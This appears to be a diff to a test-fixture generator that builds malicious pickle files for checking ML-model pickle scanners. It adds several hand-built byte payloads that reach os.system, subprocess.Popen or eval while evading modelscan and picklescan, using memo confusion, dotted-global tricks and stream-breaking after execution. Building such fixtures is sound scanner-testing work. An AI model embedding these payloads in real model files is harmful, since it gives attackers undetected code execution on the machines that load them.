@@ -53,8 +53,8 @@ class Stub:
     def __call__(self, *args, **kwargs):
         return Stub()
 
-    def __setstate__(self, state):
-        pass
+    # Static, so BUILD on an imported class (not an instance) is as inert as on an instance.
+    __setstate__ = staticmethod(lambda *args: None)
 
     def __setitem__(self, key, value):
         pass
@@ -502,6 +502,32 @@ def published_bypasses():
     mal('bypass-gadget', 'bypass-build-setstate.pkl', data, 'subprocess.Popen')
     data = b'\x80\x04' + sglob('subprocess', 'Popen') + su(CMD) + b'\x85}\x92.'
     mal('bypass-gadget', 'bypass-newobj-ex.pkl', data, 'subprocess.Popen')
+    # BUILD's slotstate sets attributes on an allow-listed function, read back through dotted GLOBALs, then STACK_GLOBAL
+    # (the shape of modelscan issue 85, re-made).
+    data = (b'\x80\x05' + glob('numpy', 'prod') + b'N(Va\nVos\nd\x86b' + b'N(Vb\nVsystem\nd\x86b' + b'0'
+            + glob('numpy', 'prod.a') + b'p0\n' + glob('numpy', 'prod.b') + b'p1\n00' + b'g0\ng1\n\x93' + b'V%s\n' % CMD.encode() + b'\x85R.')
+    mal('bypass-gadget', 'bypass-build-slotstate-dotted.pkl', data, 'numpy.prod.a')
+    # numpy.__builtins__ reached as a global, eval taken from it by a REDUCE of an allow-looking callable (modelscan issue 330 shape).
+    data = (b'\x80\x04' + sglob('numpy', 'size') + b'\x94\x94' + sglob('numpy', '__builtins__') + b'\x94\x94' + b'h\x01}}' + su('shape')
+            + b'h\x03s\x86b' + b'h\x01h\x01' + su('eval') + b'\x86R' + su('1+1') + b'\x85R.')
+    mal('bypass-gadget', 'bypass-numpy-builtins.pkl', data, 'numpy.__builtins__')
+    # importlib.import_module + getattr + str.join building "os" (modelscan issue 331 shape).
+    data = (b'\x80\x04' + sglob('importlib', 'import_module') + b'\x94' + su('builtins') + b'\x85R\x94' + sglob('builtins', 'getattr') + b'\x94'
+            + b'h\x02h\x01' + su('str') + b'\x86R' + su('join') + b'\x86R' + su('') + b'](' + su('o') + su('s') + b'e\x86R\x94'
+            + b'h\x02h\x03' + su('system') + b'\x86R' + su(CMD) + b'\x85R.')
+    mal('bypass-gadget', 'bypass-import-module-join.pkl', data, 'importlib.import_module')
+    # The payload runs, then a GET of a key never stored breaks the stream (scanners that abort there report nothing).
+    data = p2_call('os', 'system')[:-1] + b'0h\x63.'
+    mal('bypass-crash', 'bypass-missing-memo-after-payload.pkl', data, 'os.system')
+    data = p2_call('os', 'system')[:-1] + b'0\xff'
+    mal('bypass-crash', 'bypass-bad-opcode-after-payload.pkl', data, 'os.system')
+    # picklescan's memo confusion: BINPUT and MEMOIZE mixed so a memo-less model sees safe names.
+    data = (b'\x80\x04' + su('os') + b'q\x00' + su('system') + b'q\x01' + su('torch._utils') + b'\x94' + su('_rebuild_tensor_v2') + b'\x94'
+            + b'0000' + b'h\x00h\x01\x93' + su(CMD) + b'\x85R.')
+    mal('bypass-memo', 'bypass-binput-memoize-mix.pkl', data, 'os.system')
+    for m, n in [('mailcap', 'findmatch'), ('torch._dynamo.guards', 'GuardBuilder.get'), ('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression'),
+                 ('torch.utils.bottleneck.__main__', 'run_cprofile'), ('code', 'InteractiveInterpreter.runcode'), ('pkgutil', 'resolve_name')]:
+        mal('bypass-callable', 'bypass2-%s-%s.pkl' % (m.replace('.', '_'), n.replace('.', '_')), p4_call(m, n), '%s.%s' % (m, n))
     # A benign torch state_dict with a payload appended in the dict (realistic model shape).
     import torch
     sd = {'layer.weight': torch.zeros(2, 2), 'hook': Reduce(os.system, (CMD,))}
